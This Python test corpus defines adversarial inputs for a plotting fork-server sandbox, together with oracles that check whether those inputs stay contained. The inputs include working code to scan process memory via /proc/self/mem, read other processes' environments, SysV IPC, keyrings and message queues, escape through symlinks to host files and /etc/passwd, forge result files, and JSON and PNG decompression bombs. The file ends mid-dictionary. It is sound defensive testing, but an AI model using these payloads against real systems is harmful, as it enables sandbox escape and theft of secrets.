"""Adversarial corpus for the matplotlib and SVG fork servers (issue 9): attacks as data, oracles as code.

Used by ``tests/test_attacks_zygote.py`` in-process (default sandbox level) and, for the fallback
levels, in a subprocess per level (``python tests/attacks_zygote_corpus.py LEVEL`` prints a JSON
report). Every attack is black-box: a source handed to ``render_batch``; the oracles only read the
``RenderResult`` (and, for process leaks, ``/proc`` after ``close()``).

Oracles:
- contained: ``ok`` or a typed ``error_kind``; ``seconds`` at most timeout + 2;
- no host data: the host canaries (a random token in files, the parent's environment, and a random
  PNG) never appear in ``image``, ``error`` or ``trace``;
- no other-sample data: a secret stored by sample A never comes back from sample B, while B's positive
  control shows it finds a value it planted itself the same way (or that the channel is closed);
- no cross-sample effect: a benign chart rendered after the attack equals the renderer's first render;
- the batch goes on: benign samples around the attack render ok.

Secrets are ``PFX`` + 24 hex digits; scanners build ``PFX`` at run time from hex so that their own
source holds no match.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import sys
from dataclasses import dataclass, field
from typing import Any

import numpy as np

TIMEOUT = 5.0
KINDS = ("timeout", "memory", "syntax", "runtime", "no_output", "blank", "sandbox", "internal")
PFX = "VAQ7"
PFX_HEX = PFX.encode().hex()
SECRET_RE = re.compile(re.escape(PFX) + r"[0-9a-f]{24}")

BENIGN = ("import matplotlib.pyplot as plt\nplt.bar(['a', 'b', 'c'], [3, 1, 2], color='#1f77b4')\n"
          "plt.title('benign')\n")
BENIGN_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">'
              '<rect x="5" y="5" width="20" height="12" fill="teal"/><circle cx="30" cy="20" r="6"/></svg>')


ISSUED: list[str] = []   # every secret this process handed to an attack


def new_secret() -> str:
    s = PFX + secrets.token_hex(12)
    ISSUED.append(s)
    return s


# ---- host canaries --------------------------------------------------------------------------------

@dataclass
class Host:
    """Canaries planted on the host where an attack would look."""

    dir: str
    secret: str
    png: np.ndarray
    tmp_files: list[str] = field(default_factory=list)

    @property
    def png_path(self) -> str:
        return os.path.join(self.dir, "canary.png")


def plant_host(directory: str) -> Host:
    """Plant canaries in ``directory`` (a 0700 host directory), host ``/tmp`` and this process's env."""
    from PIL import Image

    secret = new_secret()
    rng = np.random.default_rng()
    arr = rng.integers(0, 256, size=(61, 97, 3), dtype=np.uint8)
    os.makedirs(directory, exist_ok=True)
    Image.fromarray(arr).save(os.path.join(directory, "canary.png"))
    with open(os.path.join(directory, "canary.json"), "w") as f:
        json.dump({"chart": {"version": 2, "text": [secret]}, "secret": secret}, f)
    with open(os.path.join(directory, "canary.txt"), "w") as f:
        f.write(secret + "\n")
    host = Host(directory, secret, arr)
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        if os.path.isdir(d):
            p = os.path.join(d, f"visalign-canary-{secret[-8:]}")
            with open(p, "w") as f:
                f.write(secret)
            os.chmod(p, 0o600)
            host.tmp_files.append(p)
    os.environ["VISALIGN_ATTACK_CANARY"] = secret
    return host


def unplant_host(host: Host) -> None:
    for p in host.tmp_files:
        try:
            os.remove(p)
        except OSError:
            pass
    os.environ.pop("VISALIGN_ATTACK_CANARY", None)


def fill(src: str, host: Host | None = None, secret: str = "") -> str:
    src = src.replace("@PFXHEX@", PFX_HEX).replace("@SECRET@", secret)
    if host is not None:
        src = src.replace("@HOSTDIR@", host.dir)
    return src


# ---- oracles --------------------------------------------------------------------------------------

def _blob(res: Any) -> str:
    try:
        trace = json.dumps(res.trace, default=str)
    except (ValueError, RecursionError):
        trace = repr(res.trace)[:10_000_000]
    return f"{res.error or ''}\n{trace}"


def is_canary_image(res: Any, host: Host) -> bool:
    if res.image is None:
        return False
    arr = np.asarray(res.image.convert("RGB"))
    if arr.shape == host.png.shape:
        return bool(np.array_equal(arr, host.png))
    # the canary pasted somewhere in a larger image: look for its first row
    if arr.shape[0] >= host.png.shape[0] and arr.shape[1] >= host.png.shape[1]:
        row = host.png[0].tobytes()
        return row in arr.tobytes()
    return False


def contained(name: str, res: Any, host: Host | None, secrets_: tuple[str, ...] = (),
              timeout: float = TIMEOUT) -> list[str]:
    """Problems with one result: untyped failure, a stall, or leaked host / other-sample data."""
    probs = []
    if res is None:
        return [f"{name}: no result"]
    if not res.ok and res.error_kind not in KINDS:
        probs.append(f"{name}: untyped failure {res.error_kind!r}")
    if res.seconds > timeout + 2:
        probs.append(f"{name}: held the batch {res.seconds:.1f} s (timeout {timeout:g} s)")
    blob = _blob(res)
    if host is not None:
        if host.secret in blob:
            probs.append(f"{name}: returned host data (canary file/env text) [{res.error_kind}]")
        if is_canary_image(res, host):
            probs.append(f"{name}: returned the host canary PNG as its image")
    for s in secrets_:
        if s in blob:
            probs.append(f"{name}: returned another sample's secret [{res.error_kind}]")
    return probs


def same_render(name: str, res: Any, ref: Any) -> list[str]:
    """A benign render after an attack must equal the renderer's first render of it."""
    if res is None or not res.ok:
        return [f"{name}: benign sample after it failed: {getattr(res, 'error_kind', None)} "
                f"{(getattr(res, 'error', '') or '')[:200]}"]
    a, b = np.asarray(res.image), np.asarray(ref.image)
    if a.shape != b.shape or not np.array_equal(a, b):
        return [f"{name}: benign sample after it rendered differently (cross-sample effect)"]
    ta = (res.trace or {}).get("chart", {}).get("text")
    tb = (ref.trace or {}).get("chart", {}).get("text")
    if ta != tb:
        return [f"{name}: benign sample's trace changed: {ta!r} != {tb!r}"]
    return []


def probe_report(res: Any) -> dict[str, str]:
    """The ``probe api=.. self=.. found=..`` line a scanner reports through its title or its error."""
    m = re.search(r"probe api=(\S+) self=(\d) found=([^\n'\"]*)", _blob(res))
    if not m:
        return {}
    return {"api": m.group(1), "self": m.group(2), "found": m.group(3)}


def scanner_ok(name: str, res: Any) -> list[str]:
    """Positive control: the scanner found the value it planted itself, or the channel is closed."""
    rep = probe_report(res)
    if not rep:
        return [f"{name}: scanner reported nothing ({res.error_kind}: {(res.error or '')[:300]})"]
    if rep["self"] != "1" and rep["api"] == "ok":
        return [f"{name}: scanner's positive control failed (api ok, own value not found)"]
    return []


# ---- attack snippets ------------------------------------------------------------------------------

PLOT = "import matplotlib.pyplot as plt\nplt.plot([0, 1, 2], [2, 0, 1])\nplt.title('attack')\n"

# Scanners end by calling _report(found, own_found, api): the report is drawn as the title and raised,
# so it comes back in the trace and in the error.
REPORT = r'''
import os, re, sys, ctypes
import matplotlib.pyplot as plt
_PFX = bytes.fromhex("@PFXHEX@")
_PAT = re.compile(re.escape(_PFX) + rb"[0-9a-f]{24}")
_OWN = _PFX + os.urandom(12).hex().encode()
def _report(found, own_found, api="ok"):
    vals = sorted({f.decode() if isinstance(f, bytes) else f for f in found} - {_OWN.decode()})
    rep = "probe api=%s self=%d found=%s" % (api, int(bool(own_found)), ",".join(vals)[:1500])
    fig = plt.figure()
    plt.plot([0, 1], [0, 1])
    plt.title(rep)
    fig.canvas.draw()
    raise RuntimeError(rep)
'''


def scanner(body: str) -> str:
    return REPORT + body


SCAN_MEM = scanner(r'''
libc = ctypes.CDLL(None)
libc.prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE: make /proc/self/mem ours to read
keep = bytearray(_OWN)
found = set()
fd = os.open("/proc/self/mem", os.O_RDONLY)
total = 0
for line in open("/proc/self/maps"):
    parts = line.split()
    lo, hi = (int(x, 16) for x in parts[0].split("-"))
    if not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith("[v")):
        continue
    for a in range(lo, hi, 1 << 24):
        n = min(hi, a + (1 << 24) + 64) - a
        total += n
        try:
            found.update(_PAT.findall(os.pread(fd, n, a)))
        except OSError:
            pass
        if total > 3 << 30:
            break
_report(found, _OWN in found)
''')

SCAN_CTYPES = scanner(r'''
keep = bytearray(_OWN)
found = set()
for line in open("/proc/self/maps"):
    parts = line.split()
    lo, hi = (int(x, 16) for x in parts[0].split("-"))
    path = parts[5] if len(parts) > 5 else ""
    if not parts[1].startswith("rw") or (path and path not in ("[heap]", "[stack]")):
        continue
    if hi - lo > 1 << 30:
        continue
    found.update(_PAT.findall(ctypes.string_at(lo, hi - lo)))
_report(found, _OWN in found)
''')

SCAN_GC = scanner(r'''
import gc
keep = _OWN.decode()
found = set()
for o in gc.get_objects():
    try:
        if isinstance(o, dict):
            vals = list(o.values())
        elif isinstance(o, (list, tuple)):
            vals = list(o)
        else:
            vals = [o]
        for v in vals:
            if isinstance(v, str) and len(v) < 1 << 24:
                found.update(_PAT.findall(v.encode("utf-8", "replace")))
            elif isinstance(v, (bytes, bytearray)) and len(v) < 1 << 24:
                found.update(_PAT.findall(bytes(v)))
    except Exception:
        pass
f = sys._getframe()
while f is not None:   # the fork server's own frames: the job it read, its buffers
    for v in list(f.f_locals.values()):
        found.update(_PAT.findall(repr(v).encode("utf-8", "replace")))
    f = f.f_back
try:
    found.update(_PAT.findall(sys.stdin.buffer.peek(1 << 20)))
except Exception:
    pass
_report(found, _OWN in found)
''')

SCAN_EXEC_REF = scanner(r'''
# find the previous program in our memory and run it as our own (the "reference" attack)
libc = ctypes.CDLL(None)
libc.prctl(4, 1, 0, 0, 0)
fd = os.open("/proc/self/mem", os.O_RDONLY)
progs = []
keep = bytearray(b"# REFPROG " + _OWN + b"\nSTOLEN = " + repr(_OWN.decode()).encode() + b"\n# ENDREF")
for line in open("/proc/self/maps"):
    parts = line.split()
    lo, hi = (int(x, 16) for x in parts[0].split("-"))
    if not parts[1].startswith("rw") or hi - lo > 1 << 30 or (len(parts) > 5 and parts[5].startswith("[v")):
        continue
    try:
        data = os.pread(fd, hi - lo, lo)
    except OSError:
        continue
    progs += re.findall(rb"# REFPROG [^\n\\]*(?:\n|\\n)(.*?)(?:\n|\\n)# ENDREF", data)
found = set()
for p in progs:
    ns = {}
    try:
        exec(p.replace(b"\\n", b"\n").decode("utf-8", "replace"), ns)
        found.update(_PAT.findall(str(ns.get("STOLEN", "")).encode()))
    except Exception:
        pass
_report(found, _OWN in found)
''')

STORE_MEM = "s = '@SECRET@'\n# REFPROG @SECRET@\nSTOLEN = '@SECRET@'\n# ENDREF\n" + PLOT
STORE_MEM_LONG = ("# " + "padding " * 2000 + "\n") * 8 + STORE_MEM + "t = bytearray(b'@SECRET@' * 10000)\n"

FILE_DIRS = r'''
import matplotlib
def _dirs():
    cwd = os.getcwd()
    ds = [cwd, os.path.dirname(cwd), "/sandbox", "/tmp", "/var/tmp",
          "/dev/shm", "/dev/mqueue", os.path.expanduser("~"), os.environ.get("TMPDIR", ""),
          matplotlib.get_cachedir(), matplotlib.get_configdir(), os.environ.get("MPLCONFIGDIR", ""),
          os.path.join(sys.prefix, "var", "cache", "visalign"), "/run/user/%d" % os.getuid(), "/run/lock"]
    return [d for d in dict.fromkeys(ds) if d]
'''

STORE_FILES = REPORT.split("def _report")[0] + FILE_DIRS + r'''
n = 0
for d in _dirs():
    for name in ("@SECRET@", ".@SECRET@.cache", "fontlist-@SECRET@.json"):
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write("@SECRET@\n")
            n += 1
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(d, "sub-@SECRET@"), exist_ok=True)
        open(os.path.join(d, "sub-@SECRET@", "x"), "w").write("@SECRET@")
    except OSError:
        pass
''' + PLOT

SCAN_FILES = scanner(FILE_DIRS + r'''
with open("own-" + _OWN.decode(), "w") as f:   # positive control: a file of our own in our directory
    f.write(_OWN.decode())
found = set()
seen = 0
for top in _dirs():
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) - top.count(os.sep) >= 3:
            dirs[:] = []
        for name in dirs + files:
            found.update(_PAT.findall(name.encode()))
        for name in files:
            seen += 1
            if seen > 3000:
                break
            try:
                with open(os.path.join(root, name), "rb") as f:
                    found.update(_PAT.findall(f.read(1 << 16)))
            except OSError:
                pass
_report(found, _OWN in found)
''')

STORE_ENV = "import os\nos.environ['VA_SECRET'] = '@SECRET@'\nos.putenv('VA_SECRET2', '@SECRET@')\n" + PLOT

SCAN_ENV = scanner(r'''
os.environ["VA_OWN"] = _OWN.decode()
found = set()
for v in os.environ.values():
    found.update(_PAT.findall(v.encode()))
host = bytes.fromhex(b"VISALIGN_ATTACK_CANARY".hex())
for pid in [d for d in os.listdir("/proc") if d.isdigit()]:
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                data = f.read(1 << 20)
            found.update(_PAT.findall(data))
            if host in data:
                found.add(data[data.index(host):][:80])
        except OSError:
            pass
_report(found, _OWN in found or os.environ.get("VA_OWN") == _OWN.decode())
''')

SYSV = r'''
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
IPC_CREAT, IPC_NOWAIT, IPC_RMID = 0o1000, 0o4000, 0
KEY = 0x56415137
'''

STORE_SHM = REPORT.split("def _report")[0] + SYSV + r'''
for key in (KEY, 0):   # a well-known key and a private one
    sid = libc.shmget(key, 4096, IPC_CREAT | 0o666)
    if sid >= 0:
        addr = libc.shmat(sid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, b"@SECRET@", 28)
''' + PLOT

SCAN_SHM = scanner(SYSV + r'''
found = set()
api = "ok"
own = libc.shmget(0, 4096, IPC_CREAT | 0o600)
if own < 0:
    api = "blocked"
else:
    a = libc.shmat(own, None, 0)
    ctypes.memmove(a, _OWN, 28)
ids = set()
try:
    for line in open("/proc/sysvipc/shm").readlines()[1:]:
        ids.add(int(line.split()[1]))
except OSError:
    pass
k = libc.shmget(KEY, 0, 0)
if k >= 0:
    ids.add(k)
ids.update(range(0, 64))
for i in ids:
    addr = libc.shmat(i, None, 0o10000)  # SHM_RDONLY
    if addr in (None, ctypes.c_void_p(-1).value):
        continue
    found.update(_PAT.findall(ctypes.string_at(addr, 4096)))
if own >= 0:
    libc.shmctl(own, IPC_RMID, None)
_report(found, _OWN in found, api)
''')

STORE_MSG = REPORT.split("def _report")[0] + SYSV + r'''
class Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]
for key in (KEY, 0):
    q = libc.msgget(key, IPC_CREAT | 0o666)
    if q >= 0:
        m = Msg(1, b"@SECRET@")
        libc.msgsnd(q, ctypes.byref(m), 64, IPC_NOWAIT)
''' + PLOT

SCAN_MSG = scanner(SYSV + r'''
class Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]
found = set()
api = "ok"
own = libc.msgget(0, IPC_CREAT | 0o600)
if own < 0:
    api = "blocked"
else:
    libc.msgsnd(own, ctypes.byref(Msg(1, _OWN)), 64, IPC_NOWAIT)
ids = set(range(0, 64))
try:
    for line in open("/proc/sysvipc/msg").readlines()[1:]:
        ids.add(int(line.split()[1]))
except OSError:
    pass
k = libc.msgget(KEY, 0)
if k >= 0:
    ids.add(k)
for i in ids:
    for _ in range(4):
        m = Msg()
        if libc.msgrcv(i, ctypes.byref(m), 64, 0, IPC_NOWAIT) < 0:
            break
        found.update(_PAT.findall(m.mtext))
if own >= 0:
    libc.msgctl(own, IPC_RMID, None)
_report(found, _OWN in found, api)
''')

KEYS = r'''
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_add_key, SYS_request_key, SYS_keyctl = 248, 249, 250   # x86-64
KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_GET_KEYRING_ID = 10, 11, 0
RINGS = (-4, -5, -3)   # user, user-session, session keyrings
DESC = b"visalign-attack-key"
def add_key(desc, data, ring):
    return libc.syscall(SYS_add_key, b"user", desc, data, ctypes.c_size_t(len(data)), ctypes.c_long(ring))
def read_key(kid):
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(SYS_keyctl, ctypes.c_long(KEYCTL_READ), ctypes.c_long(kid), buf, ctypes.c_size_t(256))
    return buf.raw[:max(0, min(n, 256))]
def find_key(desc):
    out = []
    for ring in RINGS:
        rid = libc.syscall(SYS_keyctl, ctypes.c_long(KEYCTL_GET_KEYRING_ID), ctypes.c_long(ring), ctypes.c_long(0))
        if rid > 0:
            kid = libc.syscall(SYS_keyctl, ctypes.c_long(KEYCTL_SEARCH), ctypes.c_long(rid), b"user", desc,
                               ctypes.c_long(0))
            if kid > 0:
                out.append(read_key(kid))
    kid = libc.syscall(SYS_request_key, b"user", desc, None, ctypes.c_long(0))
    if kid > 0:
        out.append(read_key(kid))
    return out
'''

STORE_KEY = "import ctypes\n" + KEYS + r'''
for ring in RINGS:
    add_key(DESC, b"@SECRET@", ring)
''' + PLOT

SCAN_KEY = scanner(KEYS + r'''
api = "ok"
own_desc = b"own-" + _OWN[-8:]
if add_key(own_desc, _OWN, -4) < 0:
    api = "blocked"
found = set()
for v in find_key(DESC) + find_key(own_desc):
    found.update(_PAT.findall(v))
_report(found, _OWN in found, api)
''')

MQ = r'''
libc = ctypes.CDLL(None, use_errno=True)
O_RDONLY, O_WRONLY, O_CREAT, O_NONBLOCK = 0, 1, 0o100, 0o4000
libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
'''

STORE_MQ = "import ctypes\n" + MQ + r'''
q = libc.mq_open(b"/visalign-attack-mq", O_WRONLY | O_CREAT | O_NONBLOCK, 0o666, None)
if q >= 0:
    libc.mq_send(q, b"@SECRET@", 28, 0)
''' + PLOT

SCAN_MQ = scanner(MQ + r'''
api = "ok"
found = set()
own_name = b"/own-" + _OWN[-8:]
q = libc.mq_open(own_name, O_WRONLY | O_CREAT | O_NONBLOCK, 0o600, None)
if q < 0:
    api = "blocked"
else:
    libc.mq_send(q, _OWN, 28, 0)
for name in (b"/visalign-attack-mq", own_name):
    r = libc.mq_open(name, O_RDONLY | O_NONBLOCK, 0, None)
    if r >= 0:
        buf = ctypes.create_string_buffer(8192)
        while libc.mq_receive(r, buf, 8192, None) > 0:
            found.update(_PAT.findall(buf.raw))
libc.mq_unlink(own_name)
_report(found, _OWN in found, api)
''')

# (name, store A, scanner B): B must not find A's secret, on the same worker, same batch or later call.
CROSS_SAMPLE = {
    "c4-memory-proc-self-mem": (STORE_MEM, SCAN_MEM),
    "c4-memory-long-program-proc-self-mem": (STORE_MEM_LONG, SCAN_MEM),
    "c4-memory-ctypes-heap": (STORE_MEM_LONG, SCAN_CTYPES),
    "c4-memory-gc-frames-stdin": (STORE_MEM_LONG, SCAN_GC),
    "c4-exec-previous-program": (STORE_MEM, SCAN_EXEC_REF),
    "c3c5-files-sandbox-tmp-shm-mplcache": (STORE_FILES, SCAN_FILES),
    "env": (STORE_ENV, SCAN_ENV),
    "c6-sysv-shm": (STORE_SHM, SCAN_SHM),
    "c6-sysv-msg": (STORE_MSG, SCAN_MSG),
    "c6-keyring": (STORE_KEY, SCAN_KEY),
    "c6-posix-mqueue": (STORE_MQ, SCAN_MQ),
}


# ---- class 1: the parent (or the fork server) follows paths the job controls -----------------------

FORGE = PLOT + r'''
import os, json
cwd = os.getcwd()
def stage(path):
    """Make `path` a regular file as seen from inside, so that a check made in the sandbox passes."""
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.exists(path):
            with open(path, "wb") as f:
                f.write(b"x")
    except OSError:
        pass
def plant(png, trace, exit_now=True):
    for name in ("out.png", "image.png", "output.png", "result.png", "figure.png", "render.png"):
        for d in (cwd, os.path.dirname(cwd)):
            try:
                os.remove(os.path.join(d, name))
            except OSError:
                pass
            try:
                os.symlink(png, os.path.join(d, name))
            except OSError:
                pass
    for name in ("trace.json", "result.trace.json"):
        try:
            os.remove(name)
        except OSError:
            pass
        try:
            os.symlink(trace, name)
        except OSError:
            pass
    if exit_now:   # forge the result record too and leave before the handler writes its own
        with open(".result.tmp", "w") as f:
            json.dump({"error_kind": None, "error": None, "png": "out.png", "trace": "trace.json"}, f)
        os.replace(".result.tmp", "result.json")
        os._exit(0)
'''

CLASS1 = {
    # the issue's attack: /proc/2 is the fork server inside the sandbox and kthreadd (cwd /) on the host
    "c1-symlink-proc2-cwd-forged": FORGE + r'''
zroot = os.path.dirname(cwd)
for p in ("@HOSTDIR@/canary.png", "@HOSTDIR@/canary.json"):
    stage(zroot + p)
plant("/proc/2/cwd@HOSTDIR@/canary.png", "/proc/2/cwd@HOSTDIR@/canary.json")
''',
    "c1-symlink-proc2-cwd-handler-writes": FORGE + r'''
zroot = os.path.dirname(cwd)
for p in ("@HOSTDIR@/canary.png", "@HOSTDIR@/canary.json"):
    stage(zroot + p)
plant("/proc/2/cwd@HOSTDIR@/canary.png", "/proc/2/cwd@HOSTDIR@/canary.json", exit_now=False)
''',
    # /proc/self/cwd is the fork server's directory inside, the trainer's working directory on the host
    "c1-symlink-proc-self-cwd": FORGE + r'''
for d in (os.path.dirname(cwd), cwd):
    stage(os.path.join(d, "canary.png"))
    stage(os.path.join(d, "canary.json"))
plant("/proc/self/cwd/canary.png", "/proc/self/cwd/canary.json")
''',
    "c1-symlink-proc-self-cwd-handler-writes": FORGE + r'''
for d in (os.path.dirname(cwd), cwd):
    stage(os.path.join(d, "canary.png"))
    stage(os.path.join(d, "canary.json"))
plant("/proc/self/cwd/canary.png", "/proc/self/cwd/canary.json", exit_now=False)
''',
    # an absolute host path: a private /tmp inside lets the job create it there
    "c1-symlink-absolute-host-path": FORGE + r'''
stage("@HOSTDIR@/canary.png")
stage("@HOSTDIR@/canary.json")
plant("@HOSTDIR@/canary.png", "@HOSTDIR@/canary.json")
''',
    "c1-symlink-proc-self-root": FORGE + r'''
stage("@HOSTDIR@/canary.png")
stage("@HOSTDIR@/canary.json")
plant("/proc/self/root@HOSTDIR@/canary.png", "/proc/self/root@HOSTDIR@/canary.json")
''',
    # chains: a relative link to a link in the shared root that points at the host
    "c1-symlink-chain-via-root": FORGE + r'''
zroot = os.path.dirname(cwd)
stage(zroot + "@HOSTDIR@/canary.png")
stage(zroot + "@HOSTDIR@/canary.json")
for n, t in (("lnk.png", "/proc/2/cwd@HOSTDIR@/canary.png"), ("lnk.json", "/proc/2/cwd@HOSTDIR@/canary.json")):
    try:
        os.symlink(t, os.path.join(zroot, n))
    except OSError:
        pass
plant("../lnk.png", "../lnk.json")
''',
    # hard links: to the host canary, and to files that are not ours
    "c1-hardlinks": FORGE + r'''
for src in ("@HOSTDIR@/canary.png", "/proc/2/cwd@HOSTDIR@/canary.png", "/etc/passwd", "/etc/hostname"):
    for name in ("out.png", "trace.json"):
        try:
            os.remove(name)
        except OSError:
            pass
        try:
            os.link(src, name)
        except OSError:
            pass
with open("result.json", "w") as f:
    json.dump({"error_kind": None, "error": None, "png": "out.png", "trace": "trace.json"}, f)
os._exit(0)
''',
    # a bind-style escape: the job's directory replaced by a symlink to the host directory
    "c1-jobdir-replaced-by-symlink": FORGE + r'''
zroot = os.path.dirname(cwd)
stage(zroot + "@HOSTDIR@/canary.png")
import shutil
me = os.path.basename(cwd)
os.chdir("/")
try:
    os.rename(cwd, cwd + ".old")
    os.symlink("/proc/2/cwd@HOSTDIR@", cwd)
except OSError:
    pass
try:
    os.symlink("canary.png", os.path.join(zroot + "@HOSTDIR@", "out.png"))
    os.symlink("canary.json", os.path.join(zroot + "@HOSTDIR@", "trace.json"))
    with open(os.path.join(zroot + "@HOSTDIR@", "result.json"), "w") as f:
        json.dump({"error_kind": None, "error": None, "png": "out.png", "trace": "trace.json"}, f)
except OSError:
    pass
os._exit(0)
''',
    # reading the host file directly (no path trick): must be refused inside the sandbox
    "c1-direct-read-host-files": r'''
import os, matplotlib.pyplot as plt
got = []
for p in ("@HOSTDIR@/canary.txt", "/proc/1/cwd@HOSTDIR@/canary.txt", "/proc/2/cwd@HOSTDIR@/canary.txt",
          "/proc/1/root@HOSTDIR@/canary.txt"):
    try:
        got.append(open(p).read(200))
    except OSError as e:
        got.append(type(e).__name__)
for d in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        for n in os.listdir(d):
            if n.startswith("visalign-canary-"):
                got.append(open(os.path.join(d, n)).read(200))
    except OSError:
        pass
plt.plot([0, 1])
plt.title(" ".join(got))
''',
    "c1-image-embeds-host-png": r'''
import matplotlib.pyplot as plt, matplotlib.image as mpimg
for p in ("@HOSTDIR@/canary.png", "/proc/2/cwd@HOSTDIR@/canary.png", "/proc/1/root@HOSTDIR@/canary.png"):
    try:
        img = mpimg.imread(p)
        break
    except Exception:
        img = None
fig = plt.figure(figsize=(0.97, 0.61), dpi=100)
fig.figimage(img if img is not None else [[0, 1], [1, 0]], 0, 0)
''',
}

# The existence of a host file must not show in the result: both attacks must look alike.
EXISTS_PAIR = (
    FORGE + "stage(os.path.dirname(cwd) + '@HOSTDIR@/canary.txt')\n"
            "plant('/proc/2/cwd@HOSTDIR@/canary.txt', '/proc/2/cwd@HOSTDIR@/canary.txt')\n",
    FORGE + "stage(os.path.dirname(cwd) + '@HOSTDIR@/missing.txt')\n"
            "plant('/proc/2/cwd@HOSTDIR@/missing.txt', '/proc/2/cwd@HOSTDIR@/missing.txt')\n",
)

# Paths that never end (a FIFO without writer, /dev/zero): run in a subprocess with a memory cap.
CLASS1_STALL = {
    "c1-symlink-to-host-fifo": FORGE + r'''
# the host path of our directory, from mountinfo
host = None
for line in open("/proc/self/mountinfo"):
    f = line.split()
    if f[4] == os.path.dirname(cwd):
        host = f[3]
if host is None:
    host = os.path.dirname(cwd)
me = os.path.basename(cwd)
os.mkfifo("pipe")
stage(host + "/" + me + "/pipe")
stage(os.path.dirname(cwd) + "/proc/self/cwd")
plant(host + "/" + me + "/pipe", host + "/" + me + "/pipe")
''',
    "c1-symlink-to-dev-zero": FORGE + r'''
stage(os.path.dirname(cwd) + "/dev/zero")
plant("/proc/2/cwd/dev/zero", "/proc/2/cwd/dev/zero")
''',
    "c1-symlink-to-dev-urandom-trace": FORGE + r'''
stage(os.path.dirname(cwd) + "/dev/urandom")
stage(os.path.dirname(cwd) + "/dev/zero")
plant("/proc/2/cwd/dev/zero", "/proc/2/cwd/dev/urandom")
''',
}


# ---- class 2: malformed, huge or deep results ------------------------------------------------------

JSON_HOOK = PLOT + r'''
import json
_dump, _dumps = json.dump, json.dumps
def _evil(obj):
    return isinstance(obj, dict) and ("chart" in obj or "text" in obj or "version" in obj)
def dumps(obj, *a, **k):
    return PAYLOAD() if _evil(obj) else _dumps(obj, *a, **k)
def dump(obj, fp, *a, **k):
    if _evil(obj):
        fp.write(PAYLOAD())
    else:
        _dump(obj, fp, *a, **k)
json.dump, json.dumps = dump, dumps
json.JSONEncoder.encode = lambda self, o: PAYLOAD() if _evil(o) else _dumps(o)
try:   # and the trace file itself, where the handler would put it
    with open("trace.json", "w") as f:
        f.write(PAYLOAD())
except OSError:
    pass
'''

CLASS2 = {
    "c2-trace-deep-list": JSON_HOOK.replace("PAYLOAD()", "('[' * 200000 + ']' * 200000)"),
    "c2-trace-deep-dict": JSON_HOOK.replace("PAYLOAD()", "('{\"a\":' * 200000 + '1' + '}' * 200000)"),
    "c2-trace-deep-in-chart": JSON_HOOK.replace(
        "PAYLOAD()", "('{\"chart\": {\"text\": ' + '[' * 150000 + ']' * 150000 + '}}')"),
    "c2-trace-huge-int": JSON_HOOK.replace("PAYLOAD()", "('{\"chart\": {\"n\": 1' + '0' * 200000 + '}}')"),
    "c2-trace-nan-inf": JSON_HOOK.replace("PAYLOAD()", "'{\"chart\": {\"text\": [NaN, Infinity, -Infinity]}}'"),
    "c2-trace-lone-surrogate": JSON_HOOK.replace("PAYLOAD()", "'{\"chart\": {\"text\": [\"\\\\ud800\"]}}'"),
    "c2-trace-not-an-object": JSON_HOOK.replace("PAYLOAD()", "'[1, 2, 3]'"),
    "c2-trace-30mb-string": JSON_HOOK.replace(
        "PAYLOAD()", "('{\"chart\": {\"text\": [\"' + 'x' * 30_000_000 + '\"]}}')"),
    "c2-trace-many-keys": JSON_HOOK.replace(
        "PAYLOAD()", "('{\"chart\": {' + ','.join('\"k%d\": [%d]' % (i, i) for i in range(400000)) + '}}')"),
    "c2-result-record-deep": PLOT + r'''
import json
_dump = json.dump
def dump(obj, fp, *a, **k):
    if isinstance(obj, dict) and "error_kind" in obj:
        fp.write('{"error_kind": null, "png": "out.png", "x": ' + '[' * 200000 + ']' * 200000 + '}')
    else:
        _dump(obj, fp, *a, **k)
json.dump = dump
''',
    "c2-huge-error-message": "raise RuntimeError('E' * 50_000_000)\n",
    "c2-huge-exception-repr": "class X(Exception):\n    def __str__(self):\n        return 'Z' * 40_000_000\n"
                              "raise X()\n",
    "c2-error-deep-exception-chain": "def f(n):\n    try:\n        raise ValueError(n)\n    except ValueError:\n"
                                     "        if n: f(n - 1)\n        else: raise\nf(900)\n",
}

PNG_HOOK = PLOT + r'''
import io, struct, zlib
from matplotlib.backends.backend_agg import FigureCanvasAgg
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
def png(w, h, depth=8, color=2, data=b""):
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b""))
def print_png(self, fobj, *a, **k):
    fobj.write(PAYLOAD)
FigureCanvasAgg.print_png = print_png
'''

PNG_FORGERIES = {
    "c2-png-bomb-header": "png(100000, 100000)",
    "c2-png-zero-size": "png(0, 0)",
    "c2-png-truncated": "png(64, 64, data=b'\\0' * (64 * 193))[:80]",
    "c2-png-not-a-png": "b'GIF89a' + b'\\0' * 100",
    "c2-png-200mb-garbage": "png(10, 10, data=b'\\0' * 310) + b'\\0' * 200_000_000",
    "c2-png-decompression-bomb-idat": "png(6000, 6000, data=b'\\0' * (6000 * 18001))",
